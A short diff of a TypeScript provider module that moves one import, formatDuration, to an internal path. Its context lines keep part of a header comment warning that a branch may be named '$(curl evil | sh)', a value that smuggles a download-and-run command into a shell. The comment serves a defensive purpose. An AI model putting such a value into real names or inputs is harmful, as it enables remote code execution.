@@ -9,7 +9,8 @@
  * text: a branch may be named `$(curl evil | sh)`.
  */
 import { join, resolve } from 'node:path'
-import { Redactor, SteadyError, formatDuration } from '@steady/record'
+import { Redactor, SteadyError } from '@steady/record'
+import { formatDuration } from '@steady/record/internal'
 import type { EnvironmentProvider, ProviderDownContext, ProviderUpContext, ProviderUpResult } from '../types.ts'
 import { configError, durationMs, folderProblem, isRecord, onlyKeys, readinessOf, requiredString, stringRecord, type Readiness, type Where } from '../config-check.ts'
 import { checkHttpUrl, checkTemplate, expandTemplate, urlTemplates } from '../templates.ts'
